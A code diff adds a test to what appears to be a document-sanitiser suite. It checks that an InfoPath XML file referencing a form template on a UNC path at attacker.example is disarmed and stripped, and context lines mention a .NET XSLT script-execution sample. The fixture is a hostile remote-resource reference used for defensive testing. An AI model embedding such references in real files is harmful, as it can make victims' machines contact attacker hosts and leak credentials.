@@ -90,6 +90,23 @@ def test_hostile_data_file(tmp_path: Path) -> None:
         assert gone not in text
 
 
+def test_infopath_form_template_reference_goes(tmp_path: Path) -> None:
+    data = (b'<?xml version="1.0" encoding="UTF-8"?>\n<?mso-infoPathSolution solutionVersion='
+            b'"1.0.0.1" productVersion="14.0.0" PIVersion="1.0.0.0" href="\\\\attacker.example'
+            b'\\forms\\leave.xsn" name="urn:schemas-microsoft-com:office:infopath:leave:-x"?>\n'
+            b'<?mso-application progid="InfoPath.Document" versionProgid="InfoPath.Document.3"?>'
+            b'\n<my:myFields xmlns:my="http://schemas.microsoft.com/office/infopath/2003/myXSD">'
+            b"<my:name>\xe5\xb1\xb1\xe7\x94\xb0</my:name></my:myFields>\n")
+    report, out = run(tmp_path, data, "leave.xml")
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {("xml.remote_resource", "?mso-infoPathSolution[0]")}
+    assert "UNC path" in report.items[0].findings[0].detail
+    result = out.read_bytes()
+    assert b"mso-infoPathSolution" not in result and b"InfoPath.Document" not in result
+    assert b"attacker" not in result and "山田".encode() in result
+    assert xml_problems(out) == []
+
+
 def test_xslt_scripts_and_literal_html_scripts(tmp_path: Path) -> None:
     """rce-dotnet.xsl: msxsl:script runs C# in .NET transformations; an XSLT stylesheet's
     literal result elements without a namespace become HTML."""
